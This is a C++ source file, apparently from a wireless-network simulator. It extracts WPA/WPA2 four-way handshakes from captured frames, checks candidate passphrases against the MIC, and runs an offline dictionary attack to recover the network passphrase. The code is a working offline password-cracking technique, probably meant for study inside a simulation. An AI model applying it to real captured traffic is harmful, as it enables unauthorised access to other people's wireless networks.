#include "wsim/attacks/handshake.hpp"

#include <fstream>
#include <iterator>
#include <map>

#include "wsim/common/wire.hpp"
#include "wsim/crypto/primitives.hpp"
#include "wsim/frames/codec.hpp"

namespace wsim::attacks {

using frames::EapolKey;
using frames::Frame;

std::optional<HandshakeCapture> extract_handshake(const TimedFrames& capture,
                                                  std::string_view ssid) {
  struct Msg1 {
    Tick tick;
    crypto::Nonce anonce;
    std::uint64_t replay;
  };
  std::map<MacAddr, std::string> beaconed;
  std::map<std::pair<MacAddr, MacAddr>, Msg1> last_msg1;
  std::optional<HandshakeCapture> best;

  for (const auto& [tick, f] : capture) {
    if (const auto* b = f.as<frames::Beacon>()) {
      beaconed[f.bssid()] = b->ssid.str();
      continue;
    }
    if (const auto* p = f.as<frames::ProbeResp>()) {
      beaconed[f.bssid()] = p->ssid.str();
      continue;
    }
    const auto* k = f.as<EapolKey>();
    if (!k) continue;
    if (k->msg_no == 1) {
      last_msg1[{f.src(), f.dst()}] = Msg1{tick, k->nonce, k->replay_counter};
    } else if (k->msg_no == 2) {
      auto it = last_msg1.find({f.dst(), f.src()});
      if (it == last_msg1.end()) continue;
      const Msg1& m1 = it->second;
      if (m1.replay != k->replay_counter || m1.tick >= tick) continue;
      if (auto b = beaconed.find(f.dst()); b != beaconed.end() && b->second != ssid) continue;
      HandshakeCapture hs;
      hs.aa = f.dst();
      hs.sa = f.src();
      hs.ssid = std::string(ssid);
      hs.anonce = m1.anonce;
      hs.snonce = k->nonce;
      hs.msg2_body = frames::eapol_mic_input(*k);
      hs.mic = k->mic;
      hs.replay_counter = k->replay_counter;
      hs.t1 = m1.tick;
      hs.t2 = tick;
      best = std::move(hs);
    }
  }
  return best;
}

std::optional<HandshakeCapture> extract_handshake(const std::vector<medium::SniffedRecord>& records,
                                                  std::string_view ssid) {
  TimedFrames frames;
  for (const auto& r : records) {
    if (r.frame) frames.emplace_back(r.tick, *r.frame);
  }
  return extract_handshake(frames, ssid);
}

std::optional<HandshakeCapture> extract_handshake(const frames::CaptureFile& capture,
                                                  std::string_view ssid) {
  return extract_handshake(frames::decoded_frames(capture), ssid);
}

std::string_view to_string(VerificationResult::Outcome o) {
  switch (o) {
    case VerificationResult::Outcome::kVerified:
      return "Verified";
    case VerificationResult::Outcome::kRejected:
      return "Rejected";
    case VerificationResult::Outcome::kIndeterminate:
      return "Indeterminate";
  }
  return "?";
}

bool mic_matches(const HandshakeCapture& hs, const crypto::Pmk& pmk) {
  const auto ptk = crypto::derive_ptk(pmk, hs.aa, hs.sa, hs.anonce, hs.snonce);
  const auto mic = crypto::compute_mic(ptk.kck, hs.msg2_body, crypto::MicVersion::kHmacSha1);
  return crypto::equal_ct(mic, hs.mic);
}

VerificationResult verify_candidate(const HandshakeCapture& hs, std::string_view candidate) {
  VerificationResult r;
  if (!crypto::Passphrase::valid_length(candidate)) {
    r.outcome = VerificationResult::Outcome::kIndeterminate;
    r.reason = "invalid length";
    return r;
  }
  if (hs.ssid.empty() || hs.ssid.size() > crypto::kSsidMax) {
    r.outcome = VerificationResult::Outcome::kIndeterminate;
    r.reason = "invalid ssid";
    return r;
  }
  const crypto::Passphrase pass{std::string(candidate)};
  if (mic_matches(hs, crypto::derive_pmk_psk(pass, hs.ssid))) {
    r.outcome = VerificationResult::Outcome::kVerified;
    r.passphrase = pass.text();
  } else {
    r.outcome = VerificationResult::Outcome::kRejected;
  }
  return r;
}

CrackResult crack_dictionary(const HandshakeCapture& hs, const std::vector<std::string>& wordlist) {
  CrackResult result;
  const auto start = std::chrono::steady_clock::now();
  for (const auto& word : wordlist) {
    ++result.candidates_tried;
    if (!crypto::Passphrase::valid_length(word)) continue;
    if (mic_matches(hs, crypto::derive_pmk_psk(crypto::Passphrase(word), hs.ssid))) {
      result.passphrase = word;
      break;
    }
  }
  result.elapsed = std::chrono::steady_clock::now() - start;
  return result;
}

std::vector<std::string> read_wordlist(const std::filesystem::path& path) {
  std::ifstream in(path);
  if (!in) throw std::runtime_error("cannot open wordlist " + path.string());
  std::vector<std::string> out;
  for (std::string line; std::getline(in, line);) {
    if (!line.empty() && line.back() == '\r') line.pop_back();
    if (!line.empty()) out.push_back(std::move(line));
  }
  return out;
}

Bytes serialize_handshake(const HandshakeCapture& hs) {
  ByteWriter w;
  w.raw(as_bytes(kHandshakeMagic));
  w.raw(hs.aa.bytes());
  w.raw(hs.sa.bytes());
  w.str8(hs.ssid);
  w.raw(hs.anonce);
  w.raw(hs.snonce);
  w.raw(hs.mic);
  w.u64(hs.replay_counter);
  w.u64(hs.t1);
  w.u64(hs.t2);
  w.u32(static_cast<std::uint32_t>(hs.msg2_body.size()));
  w.raw(hs.msg2_body);
  return w.take();
}

HandshakeCapture parse_handshake(std::span<const std::uint8_t> data) {
  ByteReader r(data);
  try {
    auto magic = r.raw(kHandshakeMagic.size());
    if (!std::equal(magic.begin(), magic.end(), kHandshakeMagic.begin())) {
      throw std::runtime_error("not a handshake file (bad magic)");
    }
    HandshakeCapture hs;
    hs.aa = MacAddr(r.array<6>());
    hs.sa = MacAddr(r.array<6>());
    hs.ssid = r.str8();
    hs.anonce = r.array<32>();
    hs.snonce = r.array<32>();
    hs.mic = r.array<16>();
    hs.replay_counter = r.u64();
    hs.t1 = r.u64();
    hs.t2 = r.u64();
    auto body = r.raw(r.u32());
    hs.msg2_body.assign(body.begin(), body.end());
    if (!r.done()) throw std::runtime_error("trailing bytes in handshake file");
    return hs;
  } catch (const TruncatedInput&) {
    throw std::runtime_error("handshake file truncated");
  }
}

void save_handshake(const std::filesystem::path& path, const HandshakeCapture& hs) {
  const Bytes data = serialize_handshake(hs);
  std::ofstream out(path, std::ios::binary | std::ios::trunc);
  out.write(reinterpret_cast<const char*>(data.data()), static_cast<std::streamsize>(data.size()));
  if (!out) throw std::runtime_error("cannot write " + path.string());
}

HandshakeCapture load_handshake(const std::filesystem::path& path) {
  std::ifstream in(path, std::ios::binary);
  if (!in) throw std::runtime_error("cannot open " + path.string());
  const Bytes data{std::istreambuf_iterator<char>(in), std::istreambuf_iterator<char>()};
  return parse_handshake(data);
}

}  // namespace wsim::attacks
